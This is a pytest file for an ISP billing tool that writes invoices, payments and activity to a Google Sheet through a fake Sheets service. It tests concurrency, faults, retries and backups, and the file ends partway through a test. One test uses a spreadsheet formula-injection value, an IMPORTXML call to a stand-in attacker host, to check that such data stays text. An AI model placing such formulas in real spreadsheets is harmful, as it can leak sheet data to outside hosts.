"""A Google Sheet as the workbook, end to end on the fake Sheets service (tests/fake_sheets.py):
the same records as the .xlsx, every value in its row whatever the owner does meanwhile, text
that stays text, faults that lose nothing, and a handful of requests per run."""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys
from collections import Counter
from decimal import Decimal
from functools import partial
from pathlib import Path

import pytest
import yaml

from ispsheets.book import gsheets_api
from ispsheets.book.gsheets_api import Retry
from ispsheets.book.reader import read_xlsx
from ispsheets.book.template import build_template
from ispsheets.problems import ExitCode
from tests.fake_sheets import FakeSheets
from tests.gsheets_harness import clean_fake, read_sheet, sheet_from_xlsx
from tests.scenario import Business, row

D = Decimal
NOV_30 = dt.date(2026, 11, 30)
ROBOT = "ispsheets-bot@prairie-net.iam.gserviceaccount.com"
CLIENTS = ("C01", "C02", "C03", "C04", "C05", "C06")


@pytest.fixture(autouse=True)
def quick_retries(monkeypatch):
    monkeypatch.setattr(gsheets_api, "Retry", partial(Retry, base=0.01, cap=0.05, budget=2.0))


@pytest.fixture
def fake() -> FakeSheets:
    return clean_fake()


def _rows(*clients: str, package: str = "Home 100") -> dict[str, list[tuple[object, ...]]]:
    return {
        "Packages": [row("Packages", package_id="HOME", name=package, price=D("49.99"),
                         interval="monthly", tax_rate=D("8.25"))],
        "Clients": [row("Clients", client_id=c, name=f"Client {c}", email=f"{c.lower()}@x.example")
                    for c in clients],
        "Services": [row("Services", service_id=f"S-{c}", client_id=c, package_id="HOME",
                         start_date=dt.date(2026, 12, 1)) for c in clients],
    }


def _tab(fake: FakeSheets, business: Business, tab: str) -> list[dict[str, object]]:
    """A tab of the fake sheet as header → value dicts (serials and all, as stored)."""
    header, *rows = fake.values(business.sheet_key, tab)
    return [dict(zip(header, r, strict=False)) for r in rows]


# -- reading -------------------------------------------------------------------------------------


def test_the_sheet_reads_as_the_same_raw_book_as_the_xlsx(tmp_path, fake):
    rows = _rows("00123", "C2")
    rows["Charges"] = [row("Charges", client_id="C2", date=dt.date(2026, 11, 20),
                           description="Router", amount=D("89.5"), taxable="no")]
    rows["Payments"] = [row("Payments", date=dt.date(2026, 12, 3), client_id="C2",
                            amount=D("10"), method="cash")]
    build_template(tmp_path / "isp.xlsx", demo_rows=rows)
    key = sheet_from_xlsx(tmp_path / "isp.xlsx")
    xlsx, sheet = read_xlsx(tmp_path / "isp.xlsx"), read_sheet(key)
    assert sheet.names == xlsx.names
    for name in xlsx.names:
        assert sheet.sheets[name].header == xlsx.sheets[name].header
        if name != "Activity":
            assert sheet.sheets[name].rows == xlsx.sheets[name].rows, name
    services = sheet.sheets["Services"].rows
    assert services[1][3] == dt.date(2026, 12, 1)  # a serial in a date column is a date
    assert sheet.sheets["Clients"].rows[1][0] == "00123"  # text stays text


def test_a_bad_cell_is_named_as_on_the_xlsx(tmp_path, fake):
    rows = _rows("C1")
    rows["Services"] = [row("Services", service_id="S-C1", client_id="C1", package_id="HOME",
                            start_date="someday")]
    business = Business.create(tmp_path, rows, backend="gsheets")
    problems = [str(p) for p in business.book().problems]
    assert any(p.startswith("Services!D2: 'someday' is not a date") for p in problems), problems


# -- the same business on both ----------------------------------------------------------------


def _story(business: Business) -> None:
    dec = partial(dt.date, 2026, 12)
    payments = {dec(3): [lambda: business.pay("C01", "54.11", dec(3))],
                dec(10): [lambda: business.pay("C02", "20.00", dec(10), method="cash")],
                dec(20): [lambda: business.pay("C03", "54.11", dec(20))]}
    business.run_days(NOV_30, dt.date(2027, 1, 5), before=payments)


def _seen(business: Business) -> dict[str, object]:
    book = business.book()
    return {
        "invoices": sorted((i.invoice_number, i.client_id, i.issue_date, i.period_start,
                            i.due_date, i.subtotal, i.tax, i.total, i.paid, i.balance, i.status,
                            i.sent_at, i.reminder_stage) for i in book.invoices),
        "lines": sorted(tuple(str(v) for v in r.values()) for r in business.sheet("InvoiceLines")),
        "mails": [(m.key, m.to, m.subject, m.text, m.attachments, m.day)
                  for m in business.mails()],
        "clients": sorted((c.client_id, c.status, c.balance) for c in book.clients),
        "charges": sorted((c.charge_id, c.client_id, c.date, c.description, c.amount,
                           c.invoice_number) for c in book.charges),
        "payments": sorted((p.payment_id, p.applied_to, p.unapplied) for p in book.payments),
        "activity": [tuple(str(v) for v in r.values()) for r in business.activity()],
        "exit codes": [r.exit_code for _, r in business.reports],
    }


@pytest.mark.slow
def test_five_weeks_on_the_sheet_equal_five_weeks_on_the_xlsx(tmp_path, fake):
    on_xlsx = Business.create(tmp_path / "xlsx", _rows(*CLIENTS), backend="xlsx")
    on_sheet = Business.create(tmp_path / "sheet", _rows(*CLIENTS), backend="gsheets")
    _story(on_xlsx)
    _story(on_sheet)
    xlsx, sheet = _seen(on_xlsx), _seen(on_sheet)
    for part in xlsx:
        assert sheet[part] == xlsx[part], part
    assert len(xlsx["invoices"]) == 12 and any("late_fee" in a[1] for a in xlsx["activity"])


# -- the owner at work during a run --------------------------------------------------------------


def _pre_write_read(fake: FakeSheets, action) -> None:
    """`action` runs just before the run's second batchGet (the key read before writing)."""
    fake.before("values:batchGet", action, nth=2)


def test_owner_sorting_invoices_between_the_read_and_the_write_moves_no_value(tmp_path, fake):
    business = Business.create(tmp_path, _rows(*CLIENTS), backend="gsheets")
    business.run(NOV_30)
    invoices = {i.client_id: i.invoice_number for i in business.invoices().values()}
    business.pay("C02", "54.11", dt.date(2026, 12, 2))
    business.pay("C05", "20.00", dt.date(2026, 12, 2))
    key = business.sheet_key
    _pre_write_read(fake, lambda f: f.sort(key, "Invoices", column=1, reverse=True))
    report = business.run(dt.date(2026, 12, 2))
    assert report.exit_code is ExitCode.OK
    rows = _tab(fake, business, "Invoices")
    assert [r["client_id"] for r in rows] == sorted(CLIENTS, reverse=True)  # the owner's order
    by_number = {r["invoice_number"]: r for r in rows}
    assert (by_number[invoices["C02"]]["paid"], by_number[invoices["C02"]]["status"]) == \
        (54.11, "paid")
    assert (by_number[invoices["C05"]]["paid"], by_number[invoices["C05"]]["balance"],
            by_number[invoices["C05"]]["status"]) == (20, 34.11, "partial")
    for client in ("C01", "C03", "C04", "C06"):
        assert by_number[invoices[client]]["status"] == "open"
        assert by_number[invoices[client]]["client_id"] == client


def test_a_row_deleted_during_the_run_is_reported_not_misplaced(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01", "C02"), backend="gsheets")
    business.run(NOV_30)
    business.pay("C02", "54.11", dt.date(2026, 12, 2))
    key = business.sheet_key

    def delete_c02(f: FakeSheets) -> None:  # the owner deletes C02's invoice row
        sheet = f.sheet(key, "Invoices")
        row = next(r for (r, c), cell in sheet.cells.items() if c == 1 and cell.value == "C02")
        sheet.cells = {(r - (r > row), c): v for (r, c), v in sheet.cells.items() if r != row}

    _pre_write_read(fake, delete_c02)
    report = business.run(dt.date(2026, 12, 2))
    rows = _tab(fake, business, "Invoices")
    assert [(r["client_id"], r["status"]) for r in rows] == [("C01", "open")]
    assert any("no row with 'INV-00002'" in str(p) for p in report.problems), report.problems


def test_a_tab_renamed_during_the_run_exits_3_and_the_next_run_writes_everything(tmp_path,
                                                                                  fake):
    business = Business.create(tmp_path, _rows("C01", "C02"), backend="gsheets")
    key = business.sheet_key
    _pre_write_read(fake, lambda f: f.rename(key, "Invoices", "Invoices 2026"))
    report = business.run(NOV_30)
    assert report.exit_code is ExitCode.WRITE_FAILED
    assert "the Invoices tab was renamed to 'Invoices 2026' during the run" in \
        str(report.problems[-1])
    fake.rename(key, "Invoices 2026", "Invoices")
    assert business.run(NOV_30).exit_code is ExitCode.OK
    assert [r["client_id"] for r in _tab(fake, business, "Invoices")] == ["C01", "C02"]
    assert len(business.mails()) == 2  # each invoice emailed once


# -- what the tool writes -----------------------------------------------------------------------


def test_data_that_looks_like_a_formula_stays_text(tmp_path, fake):
    formula = '=IMPORTXML("http://evil.example/x","//a")'
    rows = _rows("C01", package=formula)
    rows["Clients"] = [row("Clients", client_id="C01", name=formula, email="c01@x.example")]
    rows["Charges"] = [row("Charges", client_id="C01", date=dt.date(2026, 11, 20),
                           description="+1 router", amount=D("10")),
                       row("Charges", client_id="C01", date=dt.date(2026, 11, 21),
                           description="@home visit", amount=D("5"))]
    business = Business.create(tmp_path, rows, backend="gsheets")
    assert business.run(NOV_30).exit_code is ExitCode.OK
    key = business.sheet_key
    lines = fake.values(key, "InvoiceLines")
    column = lines[0].index("description")
    texts = [r[column] for r in lines[1:]]
    assert texts[0].startswith(formula) and {"+1 router", "@home visit"} <= set(texts)
    sheet = fake.sheet(key, "InvoiceLines")
    assert all(cell.formula is None for cell in sheet.cells.values())
    assert all(isinstance(cell.value, str) for (r, c), cell in sheet.cells.items()
               if c == column)


def test_dates_are_dated_serials_and_money_numbers(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    business.run(NOV_30)
    key = business.sheet_key
    header = fake.values(key, "Invoices")[0]
    issue = fake.cell(key, "Invoices", 1, header.index("issue_date"))
    total = fake.cell(key, "Invoices", 1, header.index("total"))
    assert issue is not None and issue.value == 46356  # 2026-11-30
    assert issue.number_format == {"type": "DATE", "pattern": "yyyy-mm-dd"}
    assert total is not None and total.value == 54.11
    assert total.number_format == {"type": "NUMBER", "pattern": "#,##0.00"}


def test_a_run_adds_missing_tool_tabs_and_grows_a_full_tab(tmp_path, fake):
    business = Business.create(tmp_path, _rows(*CLIENTS), backend="gsheets")
    key = business.sheet_key
    book = fake.books[key]
    book.sheets.remove(book.find("Invoices"))
    fake.sheet(key, "Activity").rows = 3  # room for two rows after the header
    assert business.run(NOV_30).exit_code is ExitCode.OK
    invoices = fake.sheet(key, "Invoices")
    assert invoices.frozen_rows == 1 and invoices.rows == 1000
    assert len(fake.values(key, "Invoices")) == 1 + len(CLIENTS)
    assert fake.sheet(key, "Activity").rows == fake.sheet(key, "Activity").last_row() == \
        1 + 2 * len(CLIENTS)


def test_a_write_past_ten_million_cells_is_refused_before_anything_is_written(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    key = business.sheet_key
    fake.sheet(key, "Activity").rows = 1  # the run must grow it
    fake.sheet(key, "Instructions").rows = 9_999_000 // fake.sheet(key, "Instructions").columns
    report = business.run(NOV_30)
    assert report.exit_code is ExitCode.WRITE_FAILED
    problem = next(str(p) for p in report.problems if "past Google's limit" in str(p))
    assert "past Google's limit of 10,000,000" in problem and "delete the empty rows" in problem
    assert "archive_after_months" in problem
    assert any("a Google Sheet can hold" in str(p) for p in report.problems)  # the 80 % line
    assert fake.values(key, "Invoices") == [fake.values(key, "Invoices")[0]]
    assert not (tmp_path / "backups").exists() or not list((tmp_path / "backups").iterdir())


def test_backups_keep_the_changed_tabs_as_they_were_and_only_the_newest(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")  # backups: 2
    for day in range(3):
        business.pay("C01", "1.00", dt.date(2026, 12, 2 + day))
        business.run(dt.date(2026, 12, 2 + day) if day else NOV_30)
    backups = sorted((tmp_path / "backups").glob("*.xlsx"))
    assert [p.name for p in backups] == ["Prairie-Net-20261203-061500.xlsx",
                                         "Prairie-Net-20261204-061500.xlsx"]
    kept = read_xlsx(backups[-1])
    assert "Clients" in kept.names and "Activity" not in kept.names
    assert "InvoiceLines" not in kept.names  # only appended to: nothing to lose
    assert kept.sheets["Payments"].rows[1][3] == 1  # the first payment, as the run read it


# -- faults ---------------------------------------------------------------------------------------


def test_a_429_is_retried_and_the_run_succeeds(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    fake.fail(429, kind="values:batchUpdate")
    start = len(fake.requests)
    assert business.run(NOV_30).exit_code is ExitCode.OK
    assert Counter(fake.kinds()[start:])["values:batchUpdate"] == 2
    assert len(fake.values(business.sheet_key, "Invoices")) == 2


def test_a_sheet_that_stays_busy_exits_3_within_the_time_budget(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    fake.fail(503, times=1000, kind="values:batchUpdate")
    started = dt.datetime.now()
    report = business.run(NOV_30)
    assert (dt.datetime.now() - started).total_seconds() < 10
    fake.faults.clear()
    assert report.exit_code is ExitCode.WRITE_FAILED
    assert "kept answering 503" in str(report.problems[-1])
    assert business.run(NOV_30).exit_code is ExitCode.OK  # the next run writes everything
    assert len(fake.values(business.sheet_key, "Invoices")) == 2
    assert len(business.mails()) == 1


def _cli(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "COLUMNS": "200"}
    return subprocess.run([sys.executable, "-m", "ispsheets", *args, "--config",
                           str(folder / "config.yaml")], env=env, capture_output=True,
                          text=True, timeout=120)


def _with_robot(business: Business) -> None:
    (business.folder / "robot.json").write_text(json.dumps({
        "type": "service_account", "client_email": ROBOT, "private_key": "unused"}))
    config = business.folder / "config.yaml"
    data = yaml.safe_load(config.read_text())
    data["workbook"]["service_account"] = "robot.json"
    config.write_text(yaml.safe_dump(data, sort_keys=False))


@pytest.mark.slow
def test_a_sheet_not_shared_exits_3_naming_the_service_account(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    _with_robot(business)
    fake.unshare(business.sheet_key)
    result = _cli(tmp_path, "run", "--date", "2026-11-30")
    assert result.returncode == 3, result.stderr
    assert "Google refused access (The caller does not have permission)" in result.stderr
    assert f"share the sheet with {ROBOT} as Editor" in result.stderr
    assert "Traceback" not in result.stderr
    fake.books[business.sheet_key].shared = True
    assert _cli(tmp_path, "run", "--date", "2026-11-30").returncode == 0


@pytest.mark.slow
def test_access_lost_between_read_and_write_exits_3_and_loses_nothing(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01", "C02"), backend="gsheets")
    _with_robot(business)
    key = business.sheet_key
    _pre_write_read(fake, lambda f: setattr(f.books[key], "shared", False))
    result = _cli(tmp_path, "run", "--date", "2026-11-30")
    assert result.returncode == 3 and ROBOT in result.stderr
    assert len(fake.books[key].find("Invoices").cells) == 15  # the header only
    fake.books[key].shared = True
    assert _cli(tmp_path, "run", "--date", "2026-11-30").returncode == 0
    assert [r["client_id"] for r in _tab(fake, business, "Invoices")] == ["C01", "C02"]
    assert len(business.mails()) == 2


def test_a_deleted_sheet_exits_3(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    fake.delete(business.sheet_key)
    report = business.run(NOV_30)
    assert report.exit_code is ExitCode.WRITE_FAILED
    assert "not found: the sheet was deleted or the key is wrong" in str(report.problems[0])


@pytest.mark.slow
def test_check_exits_3_as_run_does_when_the_sheet_is_out_of_reach(tmp_path, fake):
    """Not shared, deleted, Google gone: `check` exits 3 (the contract's "could not be
    written (locked, unreachable)"), as `run` does, with the same words; 0 once back."""
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    _with_robot(business)
    key = business.sheet_key
    fake.unshare(key)
    result = _cli(tmp_path, "check")
    assert result.returncode == 3, result.stderr
    assert f"share the sheet with {ROBOT} as Editor" in result.stderr
    fake.books[key].shared = True
    assert _cli(tmp_path, "check").returncode == 0
    saved = fake.books[key]
    fake.delete(key)
    result = _cli(tmp_path, "check")
    assert result.returncode == 3 and "the sheet was deleted" in result.stderr
    fake.books[key] = saved


def test_check_exits_3_when_google_cannot_be_reached(tmp_path, fake, monkeypatch, capsys):
    """The same through the command in this process (its retries shortened: the child
    process of the test above would retry for its full 100 s)."""
    from typer.testing import CliRunner

    from ispsheets.cli import app

    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    monkeypatch.setenv(gsheets_api.EMULATOR_ENV, "127.0.0.1:9")  # nothing listens there
    result = CliRunner().invoke(app, ["check", "--config", str(business.folder / "config.yaml")])
    assert result.exit_code == 3, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_without_emulator_or_credentials_check_says_how_to_set_one_up(tmp_path, fake,
                                                                      monkeypatch):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    env = {k: v for k, v in os.environ.items()
           if k not in (gsheets_api.EMULATOR_ENV, gsheets_api.CREDENTIALS_ENV)}
    result = subprocess.run([sys.executable, "-m", "ispsheets", "check", "--config",
                             str(business.folder / "config.yaml")], env=env,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 2
    assert "workbook.service_account: no service account is configured" in result.stderr
    assert "set workbook.service_account in config.yaml" in result.stderr


def test_the_sheets_api_not_enabled_says_where_to_enable_it(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    fake.fail(403, kind="get", message="Google Sheets API has not been used in project 4242 "
              "before or it is disabled. Enable it by visiting https://console.developers."
              "google.com/apis/api/sheets.googleapis.com/overview?project=4242 then retry.")
    report = business.run(NOV_30)
    assert report.exit_code is ExitCode.WRITE_FAILED
    problem = str(report.problems[0])
    assert "the Google Sheets API is not enabled" in problem and "> Enable" in problem
    assert "share the sheet" not in problem


@pytest.mark.parametrize(("filled", "grid"), [(4000, 5000), (100, 5000)])
def test_activity_rows_go_after_the_last_row_of_a_long_tab(tmp_path, fake, filled, grid):
    """The run reads only the end of a long tab it appends to; when that end is empty (rows
    added by the owner), it looks at the whole tab."""
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    key = business.sheet_key
    fake.sheet(key, "Activity").rows = grid
    for number in range(1, filled):
        fake.put(key, "Activity", number, 0, dt.datetime(2026, 1, 1, 8, 0))
        fake.put(key, "Activity", number, 1, "old")
    start = len(fake.requests)
    assert business.run(NOV_30).exit_code is ExitCode.OK
    actions = [r[1] for r in fake.values(key, "Activity")[1:]]
    assert actions == ["old"] * (filled - 1) + ["invoice_issued", "invoice_sent"]
    assert Counter(fake.kinds()[start:])["values:batchGet"] == (2 if filled > 1000 else 3)


@pytest.mark.parametrize(("filled", "shortened", "gets"), [(2500, 2800, 2), (3990, 3991, 1)])
def test_a_tab_shortened_during_the_run_still_gets_its_rows_after_the_last(
        tmp_path, fake, filled, shortened, gets):
    """The owner deletes empty rows at the end of Activity between the read and the write.
    When the end of the tab the run meant to read is gone (Google answers 400), it lists the
    tabs again and reads the end of the tab as it is now; otherwise the key read's answer
    tells the tab's size now, and the run grows it for its new rows."""
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    key = business.sheet_key
    fake.sheet(key, "Activity").rows = 5000
    for number in range(1, filled):
        fake.put(key, "Activity", number, 0, dt.datetime(2026, 1, 1, 8, 0))
        fake.put(key, "Activity", number, 1, "old")
    _pre_write_read(fake, lambda f: setattr(f.sheet(key, "Activity"), "rows", shortened))
    start = len(fake.requests)
    assert business.run(NOV_30).exit_code is ExitCode.OK
    actions = [r[1] for r in fake.values(key, "Activity")[1:]]
    assert actions == ["old"] * (filled - 1) + ["invoice_issued", "invoice_sent"]
    assert fake.kinds()[start:].count("get") == gets  # the tabs listed again only if needed


def test_a_tab_replaced_during_the_run_is_not_written_into(tmp_path, fake):
    """The owner deletes Invoices and adds a new tab of that name meanwhile: same name, another
    tab; the run stops rather than write into it, and the next run restores every row."""
    business = Business.create(tmp_path, _rows("C01", "C02"), backend="gsheets")
    key = business.sheet_key

    def replace_invoices(f: FakeSheets) -> None:
        book = f.books[key]
        old = book.find("Invoices")
        book.sheets.remove(old)
        f._add_sheet(book, {"title": "Invoices", "sheetId": 777})
        f.sheet(key, "Invoices").cells = dict(old.cells)

    _pre_write_read(fake, replace_invoices)  # after the tabs were listed: the write fails
    report = business.run(NOV_30)
    assert report.exit_code is ExitCode.WRITE_FAILED
    assert "the Invoices tab was deleted during the run" in str(report.problems[-1])
    assert business.run(NOV_30).exit_code is ExitCode.OK
    assert [r["client_id"] for r in _tab(fake, business, "Invoices")] == ["C01", "C02"]


def test_ids_for_typed_payments_go_only_to_the_rows_that_still_show_them(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01", "C02"), backend="gsheets")
    business.run(NOV_30)
    business.pay("C01", "10.00", dt.date(2026, 12, 2))
    business.pay("C02", "20.00", dt.date(2026, 12, 2))
    key = business.sheet_key
    _pre_write_read(fake, lambda f: f.sort(key, "Payments", column=2, reverse=True))
    business.run(dt.date(2026, 12, 2))
    first = {(r["client_id"], r["payment_id"]) for r in _tab(fake, business, "Payments")}
    assert first <= {("C01", "PAY-00001"), ("C02", "PAY-00002"), ("C01", ""), ("C02", "")}
    business.run(dt.date(2026, 12, 3))
    after = {(r["client_id"], r["payment_id"]) for r in _tab(fake, business, "Payments")}
    assert after == {("C01", "PAY-00001"), ("C02", "PAY-00002")}


def test_an_id_the_owner_types_during_the_run_is_kept(tmp_path, fake):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    business.pay("C01", "10.00", dt.date(2026, 11, 29))
    key = business.sheet_key
    _pre_write_read(fake, lambda f: f.put(key, "Payments", 1, 0, "MY-001"))
    business.run(NOV_30)
    assert [r["payment_id"] for r in _tab(fake, business, "Payments")] == ["MY-001"]


def test_a_write_above_googles_payload_limit_goes_in_several_requests_activity_last(
        tmp_path, fake, monkeypatch):
    from ispsheets.book import gsheets_backend

    monkeypatch.setattr(gsheets_backend, "PAYLOAD_LIMIT", 600)
    business = Business.create(tmp_path, _rows(*CLIENTS), backend="gsheets")
    start = len(fake.requests)
    assert business.run(NOV_30).exit_code is ExitCode.OK
    writes = [path for _, kind, path in fake.requests[start:] if kind == "values:batchUpdate"]
    assert len(writes) > 3
    sizes = [up for (_, kind, _), (up, _) in zip(fake.requests[start:], fake.sizes[start:],
                                                 strict=True) if kind == "values:batchUpdate"]
    assert max(sizes[:-1]) < 1200  # the last: Activity rows whole, with the stamp
    assert [r["client_id"] for r in _tab(fake, business, "Invoices")] == list(CLIENTS)
    assert len(_tab(fake, business, "Activity")) == 2 * len(CLIENTS)


def test_payloads_put_what_the_next_run_finds_first_and_keep_the_rest_whole(monkeypatch):
    from ispsheets.book import gsheets_backend
    from ispsheets.book.gsheets_backend import payloads

    activity = {"range": "'Activity'!A2:B5", "majorDimension": "ROWS",
                "values": [[f"{n}" * 50, "a"] for n in range(4)]}
    fees = {"range": "'Charges'!A9:B9", "majorDimension": "ROWS", "values": [["CHG-1", "C1"]]}
    lines = {"range": "'InvoiceLines'!A2:B7", "majorDimension": "ROWS",
             "values": [["I1", 1], ["I1", 2], ["I1", 3], ["I1", 4], ["I2", 1], ["I2", 2]]}
    invoices = {"range": "'Invoices'!A2:A3", "majorDimension": "ROWS", "values": [["I1"], ["I2"]]}
    stamp = {"range": "'_ispsheets'!A1:B1", "majorDimension": "ROWS", "values": [["w", 7]]}
    parts = payloads([stamp, activity, fees, lines, invoices], limit=60)
    assert parts[-1] == [fees, activity, stamp]  # whole: the next run cannot find these rows,
    # and the write's generation only with them (a run killed before: its rows are looked for)
    flat = [r["range"] for part in parts[:-1] for r in part]
    assert flat == ["'InvoiceLines'!A2:B5", "'InvoiceLines'!A6:B7", "'Invoices'!A2:A2",
                    "'Invoices'!A3:A3"]  # cut, never inside an invoice's lines
    assert payloads([activity, invoices]) == [[invoices, activity]]
    monkeypatch.setattr(gsheets_backend, "HARD_LIMIT", 150)  # the last part alone too big
    parts = payloads([activity, invoices], limit=150)
    assert [r["range"] for part in parts[1:] for r in part] == [
        "'Activity'!A2:B2", "'Activity'!A3:B3", "'Activity'!A4:B4", "'Activity'!A5:B5"]


def test_google_out_of_reach_exits_3_and_the_next_run_does_the_day(tmp_path, fake,
                                                                  monkeypatch):
    business = Business.create(tmp_path, _rows("C01"), backend="gsheets")
    monkeypatch.setenv(gsheets_api.EMULATOR_ENV, "127.0.0.1:9")  # nothing listens there
    report = business.run(NOV_30)
    assert report.exit_code is ExitCode.WRITE_FAILED
    assert "cannot reach Google Sheets (Connection refused) — check the internet connection" \
        in str(report.problems[0])
    monkeypatch.setenv(gsheets_api.EMULATOR_ENV, fake.host)
    assert business.run(NOV_30).exit_code is ExitCode.OK
    assert len(fake.values(business.sheet_key, "Invoices")) == 2


def test_a_backup_reads_back_as_the_values_it_keeps(tmp_path):
    """The backup's own SpreadsheetML writer against calamine: every kind of value a sheet
    gives comes back the same (text with markup and control characters, numbers, dates)."""
    from ispsheets.book.gsheets_backup import write_backup
    from ispsheets.book.reader import RawSheet

    rows = [["client_id", "name", "amount", "date", "sent_at", "ok", "note"],
            ["00123", '<b>"Ann" & Bob</b>', 49.99, dt.date(2026, 12, 1),
             dt.datetime(2026, 12, 1, 6, 15), True, "  two\nlines\x07 "],
            ["", "", 5, "", "", False, "=IMPORTXML(\"x\")"],
            ["C3", "Zoë 🚀", -0.1, dt.date(1999, 1, 31), "", "", ""]]
    sheets = [RawSheet("Clients", rows), RawSheet("In/valid: name?*", [["x"], [1]])]
    path = write_backup(sheets, tmp_path, "Prairie-Net", 3, dt.datetime(2026, 12, 1, 6, 15),
                        "sheet")
    assert path is not None and path.name == "Prairie-Net-20261201-061500.xlsx"
    back = read_xlsx(path)
    assert back.names == ["Clients", "In_valid_ name__"]
    expected = [list(r) for r in rows]
    expected[1][6] = "  two\nlines "  # a control character a spreadsheet cannot hold
    assert back.sheets["Clients"].rows == expected
    assert back.sheets["In_valid_ name__"].rows == [["x"], [1]]


def test_a_typed_payment_gets_its_id_and_applied_to_in_the_same_write(tmp_path, fake):
    seen = {}
    for backend in ("xlsx", "gsheets"):
        business = Business.create(tmp_path / backend, _rows("C01"), backend=backend)
        business.run(NOV_30)
        business.pay("C01", "54.11", dt.date(2026, 12, 2))
        report = business.run(dt.date(2026, 12, 2))
        assert not [p for p in report.problems if "no row with" in str(p)]
        seen[backend] = [(r["payment_id"], r["applied_to"], r["unapplied"])
                         for r in business.sheet("Payments")]
    assert seen["gsheets"] == seen["xlsx"]
    assert seen["gsheets"][0][:2] == ("PAY-00001", "INV-00001:54.11")


def test_a_billing_run_makes_five_requests_and_a_day_with_nothing_to_write_two(tmp_path, fake):
    business = Business.create(tmp_path, _rows(*CLIENTS), backend="gsheets")
    start = len(fake.requests)
    business.run(NOV_30)
    assert fake.kinds()[start:] == ["get", "values:batchGet", "values:batchGet", "batchUpdate",
                                    "values:batchUpdate"]
    start = len(fake.requests)
    business.run(NOV_30)  # the same day again: nothing new
    assert Counter(fake.kinds()[start:]) == {"get": 1, "values:batchGet": 1}


@pytest.mark.slow
def test_a_cut_write_whose_last_part_fails_leaves_nothing_the_next_run_writes_twice(
        tmp_path, fake, monkeypatch):
    """A write cut in several requests (here every few hundred bytes) whose last request is
    refused, after the others were written: the next run writes what is missing and nothing
    twice: no invoice line, late fee or Activity row appears two times."""
    from ispsheets.book import gsheets_backend

    monkeypatch.setattr(gsheets_backend, "PAYLOAD_LIMIT", 200)
    days = (NOV_30, dt.date(2026, 12, 15), dt.date(2026, 12, 30))
    parts: list[int] = []  # requests of each day's write, counted on a twin business
    twin = Business.create(tmp_path / "twin", _rows("PAYS", "LATE"), backend="gsheets")
    for day in days:
        if day == days[1]:
            twin.pay("PAYS", "54.11", dt.date(2026, 12, 5))
        start = len(fake.requests)
        assert twin.run(day).exit_code is ExitCode.OK
        parts.append(fake.kinds()[start:].count("values:batchUpdate"))
    assert parts[0] > 2 and parts[2] > 1  # cut

    business = Business.create(tmp_path / "shop", _rows("PAYS", "LATE"), backend="gsheets")
    for day, count in zip(days, parts, strict=True):
        if day == days[1]:
            business.pay("PAYS", "54.11", dt.date(2026, 12, 5))
            assert business.run(day).exit_code is ExitCode.OK
            continue
        fake.before("values:batchUpdate", lambda f: f.fail(403, kind="values:batchUpdate"),
                    nth=count)  # the last part refused
        assert business.run(day).exit_code is ExitCode.WRITE_FAILED
        assert business.run(day).exit_code is ExitCode.OK

    lines = [(r["invoice_number"], r["line"]) for r in _tab(fake, business, "InvoiceLines")]
    numbers = [r["invoice_number"] for r in _tab(fake, business, "Invoices")]
    assert sorted(lines) == sorted(set(lines)) == [(n, 1) for n in sorted(numbers)]
    fees = [r["client_id"] for r in _tab(fake, business, "Charges")
            if str(r["description"]).startswith("Late fee")]
    assert fees == ["LATE"]
    activity = [(r["action"], r["client_id"], r["invoice_number"], r["detail"])
                for r in _tab(fake, business, "Activity")]
    assert len(activity) == len(set(activity)), Counter(activity).most_common(3)
    assert [a[:3] for a in activity if a[0] == "late_fee_added"] == [
        ("late_fee_added", "LATE", "INV-00001")]
    assert len(numbers) == len(set(numbers))
    assert len(business.mails()) == len({m.path.name for m in business.mails()})


def _cut_run(folder: Path, kill_at: str = "") -> subprocess.CompletedProcess[str]:
    """`ispsheets run` in its own process, its write cut every few hundred bytes."""
    child = ("import sys; from ispsheets.book import gsheets_backend as g; g.PAYLOAD_LIMIT = 200; "
             "from ispsheets.cli import run_command_line; "
             "sys.exit(run_command_line(sys.argv[1:]))")
    env = {**os.environ, "ISPSHEETS_KILL_AT": kill_at} if kill_at else dict(os.environ)
    return subprocess.run([sys.executable, "-c", child, "run", "--date", "2026-11-30",
                           "--config", str(folder / "config.yaml")], env=env,
                          capture_output=True, text=True, timeout=120)


@pytest.mark.slow
def test_a_run_killed_between_two_parts_of_a_cut_write_is_completed_once(tmp_path, fake):
    """kill -9 after the first part of a cut write, and before its last: the next run writes
    the rest, and nothing twice."""
    twin = Business.create(tmp_path / "twin", _rows(*CLIENTS), backend="gsheets")
    start = len(fake.requests)
    assert _cut_run(twin.folder).returncode == 0
    parts = fake.kinds()[start:].count("values:batchUpdate")
    assert parts > 2
    for nth in (2, parts):  # killed before the second part, before the last
        business = Business.create(tmp_path / f"killed-{nth}", _rows(*CLIENTS),
                                   backend="gsheets")
        start = len(fake.requests)
        killed = _cut_run(business.folder, f"workbook-temp-written@{nth}")
        assert killed.returncode == 137, killed.stderr
        assert fake.kinds()[start:].count("values:batchUpdate") == nth - 1
        assert business.run(NOV_30).exit_code is ExitCode.OK
        invoices = _tab(fake, business, "Invoices")
        assert sorted(r["client_id"] for r in invoices) == sorted(CLIENTS)
        lines = [(r["invoice_number"], r["line"]) for r in _tab(fake, business, "InvoiceLines")]
